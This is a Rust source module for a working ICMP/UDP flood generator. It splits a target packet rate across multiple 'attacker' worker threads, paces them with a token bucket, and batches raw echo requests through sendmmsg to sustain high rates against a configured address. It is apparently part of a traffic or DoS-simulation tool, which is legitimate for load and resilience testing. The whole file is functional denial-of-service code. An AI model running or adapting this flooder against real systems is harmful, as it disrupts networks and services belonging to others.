//! Paced flood traffic: token-bucket rate control across logical attackers.

use std::io;
use std::net::{IpAddr, SocketAddr, UdpSocket};
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::sync::Arc;
use std::time::{Duration, Instant};

use serde::{Deserialize, Serialize};

use super::icmp::{build_echo_request, compute_checksum};
use super::FloodError;

/// Transport used to emit flood packets.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "kebab-case")]
pub enum TransportMode {
    /// Raw ICMP echo requests (protocol 1). Needs CAP_NET_RAW or root.
    RawIcmp,
    /// UDP datagrams carrying the same serialized echo-request bytes.
    /// Unprivileged; rate control is identical.
    UdpFallback,
}

impl std::str::FromStr for TransportMode {
    type Err = String;

    fn from_str(s: &str) -> Result<Self, Self::Err> {
        match s {
            "icmp" | "raw-icmp" => Ok(Self::RawIcmp),
            "udp" | "udp-fallback" => Ok(Self::UdpFallback),
            other => Err(format!("unknown transport mode `{other}` (use icmp or udp)")),
        }
    }
}

#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct FloodConfig {
    /// Destination endpoint. The port is ignored in raw ICMP mode.
    pub target_address: SocketAddr,
    /// Logical senders multiplexed within this process.
    pub attacker_count: u32,
    /// Aggregate packets per second across all senders.
    pub target_rate_pps: u64,
    pub duration_s: f64,
    /// Echo-request payload bytes (zeros). Zero keeps the on-wire size at
    /// the 28-byte IP+ICMP header total.
    pub payload_len: usize,
    pub transport_mode: TransportMode,
}

impl FloodConfig {
    fn validate(&self) -> Result<(), FloodError> {
        if self.attacker_count < 1 {
            return Err(FloodError::InvalidConfig("attacker_count must be >= 1".into()));
        }
        if self.target_rate_pps < 1 {
            return Err(FloodError::InvalidConfig("target_rate_pps must be >= 1".into()));
        }
        if !(self.duration_s > 0.0) {
            return Err(FloodError::InvalidConfig("duration_s must be positive".into()));
        }
        Ok(())
    }
}

#[derive(Debug, Clone, Copy, PartialEq, Serialize, Deserialize)]
pub struct FloodStats {
    pub packets_sent: u64,
    pub achieved_rate_pps: f64,
    pub send_errors: u64,
    pub wall_duration_s: f64,
}

/// Cancellation handle deliverable from another thread.
#[derive(Debug, Clone, Default)]
pub struct StopHandle(Arc<AtomicBool>);

impl StopHandle {
    pub fn new() -> Self {
        Self::default()
    }

    pub fn stop(&self) {
        self.0.store(true, Ordering::Release);
    }

    pub fn is_stopped(&self) -> bool {
        self.0.load(Ordering::Acquire)
    }
}

/// True if this process can open raw ICMP sockets.
pub fn raw_icmp_available() -> bool {
    RawIcmpSocket::open().is_ok()
}

/// Emit packets toward the target at up to the aggregate rate until the
/// duration elapses or the stop signal fires. Never waits for replies.
///
/// Each logical attacker runs as an independent worker with its own
/// identifier and a per-sender sequence counter that wraps modulo 2^16.
pub fn flood(config: &FloodConfig, stop: &StopHandle) -> Result<FloodStats, FloodError> {
    config.validate()?;

    // Route sanity check up front so bad endpoints fail before any worker
    // starts, in both transport modes.
    let probe = UdpSocket::bind(bind_any(&config.target_address))?;
    probe.connect(config.target_address).map_err(|e| FloodError::Endpoint {
        addr: config.target_address,
        source: e,
    })?;
    drop(probe);

    let n = config.attacker_count;
    let mut senders = Vec::with_capacity(n as usize);
    for worker in 0..n {
        senders.push(Sender::open(config, worker as u16)?);
    }

    let sent = AtomicU64::new(0);
    let errors = AtomicU64::new(0);
    let started = Instant::now();
    let deadline = started + Duration::from_secs_f64(config.duration_s);

    std::thread::scope(|scope| {
        for (worker, sender) in senders.into_iter().enumerate() {
            // spread the aggregate target, remainder to the low workers
            let share = config.target_rate_pps / u64::from(n)
                + u64::from((worker as u64) < config.target_rate_pps % u64::from(n));
            let sent = &sent;
            let errors = &errors;
            let stop = stop.clone();
            scope.spawn(move || {
                run_worker(sender, share.max(1), deadline, &stop, sent, errors);
            });
        }
    });

    let wall = started.elapsed().as_secs_f64();
    let packets_sent = sent.load(Ordering::Relaxed);
    Ok(FloodStats {
        packets_sent,
        achieved_rate_pps: packets_sent as f64 / wall,
        send_errors: errors.load(Ordering::Relaxed),
        wall_duration_s: wall,
    })
}

fn bind_any(target: &SocketAddr) -> SocketAddr {
    match target {
        SocketAddr::V4(_) => "0.0.0.0:0".parse().unwrap(),
        SocketAddr::V6(_) => "[::]:0".parse().unwrap(),
    }
}

// Upper bound on packets per sendmmsg call. Batching matters: on hosts
// where syscalls are expensive (supervised sandboxes, VMs), per-packet
// sendto caps out far below the rates this tool must sustain.
const BATCH_MAX: usize = 32;

/// One worker: token-bucket paced batch-send loop.
///
/// Tokens accrue at the worker's share of the target rate and are capped
/// at a small burst, so the achieved rate can never exceed the target by
/// more than the burst over any run of a second or longer. High rates
/// drain whole tokens in micro-batches through one sendmmsg call; waits
/// shorter than a millisecond busy-spin, since OS sleep granularity is
/// too coarse at the packet rates involved.
fn run_worker(
    mut sender: Sender,
    rate_pps: u64,
    deadline: Instant,
    stop: &StopHandle,
    sent: &AtomicU64,
    errors: &AtomicU64,
) {
    let rate = rate_pps as f64;
    // burst sized to absorb scheduler preemptions (~20 ms of traffic)
    // while staying within 2% of the target over any 1 s window
    let burst = (rate / 50.0).clamp(1.0, 4096.0);
    let min_batch = ((rate / 2_000.0) as usize).clamp(1, BATCH_MAX);
    let mut tokens = 0.0f64;
    let mut last = Instant::now();

    loop {
        if stop.is_stopped() {
            break;
        }
        let now = Instant::now();
        if now >= deadline {
            break;
        }
        tokens = (tokens + (now - last).as_secs_f64() * rate).min(burst);
        last = now;

        if tokens >= min_batch as f64 {
            let want = (tokens as usize).min(BATCH_MAX);
            let (ok, failed) = sender.send_batch(want);
            tokens -= (ok + failed) as f64;
            sent.fetch_add(ok, Ordering::Relaxed);
            errors.fetch_add(failed, Ordering::Relaxed);
        } else {
            let wait = Duration::from_secs_f64((min_batch as f64 - tokens) / rate);
            if wait > Duration::from_millis(1) {
                // stay responsive to the stop signal on slow schedules
                std::thread::sleep(wait.min(Duration::from_millis(5)));
            } else {
                std::hint::spin_loop();
            }
        }
    }
}

/// Per-worker transport with a preserialized packet ring; only sequence
/// numbers and checksums are patched per send.
struct Sender {
    socket: FloodSocket,
    target: SocketAddr,
    bufs: Vec<Vec<u8>>,
    sequence: u16,
    /// sendmmsg confirmed unavailable; fall back to per-packet sends.
    plain_sends: bool,
}

enum FloodSocket {
    Raw(RawIcmpSocket),
    Udp(UdpSocket),
}

impl FloodSocket {
    fn fd(&self) -> libc::c_int {
        match self {
            FloodSocket::Raw(raw) => raw.fd,
            FloodSocket::Udp(sock) => {
                use std::os::fd::AsRawFd;
                sock.as_raw_fd()
            }
        }
    }
}

impl Sender {
    fn open(config: &FloodConfig, worker_id: u16) -> Result<Self, FloodError> {
        let socket = match config.transport_mode {
            TransportMode::RawIcmp => {
                if !config.target_address.is_ipv4() {
                    return Err(FloodError::Endpoint {
                        addr: config.target_address,
                        source: io::Error::new(
                            io::ErrorKind::Unsupported,
                            "raw ICMP mode supports IPv4 targets only",
                        ),
                    });
                }
                FloodSocket::Raw(RawIcmpSocket::open()?)
            }
            TransportMode::UdpFallback => {
                FloodSocket::Udp(UdpSocket::bind(bind_any(&config.target_address))?)
            }
        };
        let payload = vec![0u8; config.payload_len];
        let packet = build_echo_request(worker_id, 0, &payload)?;
        let bufs = vec![packet.serialize(); BATCH_MAX];
        Ok(Self {
            socket,
            target: config.target_address,
            bufs,
            sequence: 0,
            plain_sends: !config.target_address.is_ipv4(),
        })
    }

    /// Send up to `want` packets with consecutive sequence numbers;
    /// returns (sent, failed).
    fn send_batch(&mut self, want: usize) -> (u64, u64) {
        let n = want.min(BATCH_MAX);
        for buf in self.bufs.iter_mut().take(n) {
            buf[6..8].copy_from_slice(&self.sequence.to_be_bytes());
            buf[2] = 0;
            buf[3] = 0;
            let ck = compute_checksum(buf);
            buf[2..4].copy_from_slice(&ck.to_be_bytes());
            self.sequence = self.sequence.wrapping_add(1);
        }

        if !self.plain_sends {
            match self.sendmmsg(n) {
                Ok(sent) => {
                    // packets beyond `sent` were never handed to the
                    // kernel; their sequences are simply reused next time
                    let unsent = (n - sent) as u16;
                    self.sequence = self.sequence.wrapping_sub(unsent);
                    return (sent as u64, 0);
                }
                Err(e) if e.raw_os_error() == Some(libc::ENOSYS) => {
                    self.plain_sends = true;
                }
                Err(_) => return (0, n as u64),
            }
        }

        let mut ok = 0u64;
        let mut failed = 0u64;
        for i in 0..n {
            let sent = match &self.socket {
                FloodSocket::Raw(raw) => raw.send_to(&self.bufs[i], &self.target).is_ok(),
                FloodSocket::Udp(sock) => sock.send_to(&self.bufs[i], self.target).is_ok(),
            };
            if sent {
                ok += 1;
            } else {
                failed += 1;
            }
        }
        (ok, failed)
    }

    fn sendmmsg(&mut self, n: usize) -> io::Result<usize> {
        let IpAddr::V4(v4) = self.target.ip() else {
            return Err(io::Error::new(io::ErrorKind::Unsupported, "IPv4 only"));
        };
        let port = match self.socket {
            FloodSocket::Raw(_) => 0,
            FloodSocket::Udp(_) => self.target.port(),
        };
        let mut addr = libc::sockaddr_in {
            sin_family: libc::AF_INET as libc::sa_family_t,
            sin_port: port.to_be(),
            sin_addr: libc::in_addr {
                s_addr: u32::from_ne_bytes(v4.octets()),
            },
            sin_zero: [0; 8],
        };

        let mut iovecs: Vec<libc::iovec> = self
            .bufs
            .iter_mut()
            .take(n)
            .map(|buf| libc::iovec {
                iov_base: buf.as_mut_ptr().cast(),
                iov_len: buf.len(),
            })
            .collect();
        let mut msgs: Vec<libc::mmsghdr> = iovecs
            .iter_mut()
            .map(|io| {
                let mut hdr: libc::mmsghdr = unsafe { std::mem::zeroed() };
                hdr.msg_hdr.msg_name = std::ptr::addr_of_mut!(addr).cast();
                hdr.msg_hdr.msg_namelen = std::mem::size_of::<libc::sockaddr_in>() as u32;
                hdr.msg_hdr.msg_iov = io;
                hdr.msg_hdr.msg_iovlen = 1;
                hdr
            })
            .collect();

        let rc = unsafe { libc::sendmmsg(self.socket.fd(), msgs.as_mut_ptr(), n as u32, 0) };
        if rc < 0 {
            Err(io::Error::last_os_error())
        } else {
            Ok(rc as usize)
        }
    }
}

/// Minimal raw ICMP (protocol 1) socket. The kernel prepends the IPv4
/// header, so an empty-payload echo request leaves at 28 bytes total.
struct RawIcmpSocket {
    pub(self) fd: libc::c_int,
}

impl RawIcmpSocket {
    fn open() -> Result<Self, FloodError> {
        let fd = unsafe { libc::socket(libc::AF_INET, libc::SOCK_RAW, libc::IPPROTO_ICMP) };
        if fd < 0 {
            let err = io::Error::last_os_error();
            return match err.raw_os_error() {
                Some(libc::EPERM) | Some(libc::EACCES) => Err(FloodError::Privilege(err)),
                _ => Err(FloodError::Io(err)),
            };
        }
        Ok(Self { fd })
    }

    fn send_to(&self, buf: &[u8], target: &SocketAddr) -> io::Result<usize> {
        let IpAddr::V4(v4) = target.ip() else {
            return Err(io::Error::new(io::ErrorKind::Unsupported, "IPv4 only"));
        };
        let addr = libc::sockaddr_in {
            sin_family: libc::AF_INET as libc::sa_family_t,
            sin_port: 0,
            sin_addr: libc::in_addr {
                s_addr: u32::from_ne_bytes(v4.octets()),
            },
            sin_zero: [0; 8],
        };
        let rc = unsafe {
            libc::sendto(
                self.fd,
                buf.as_ptr().cast(),
                buf.len(),
                0,
                std::ptr::addr_of!(addr).cast(),
                std::mem::size_of::<libc::sockaddr_in>() as libc::socklen_t,
            )
        };
        if rc < 0 {
            Err(io::Error::last_os_error())
        } else {
            Ok(rc as usize)
        }
    }
}

impl Drop for RawIcmpSocket {
    fn drop(&mut self) {
        unsafe { libc::close(self.fd) };
    }
}
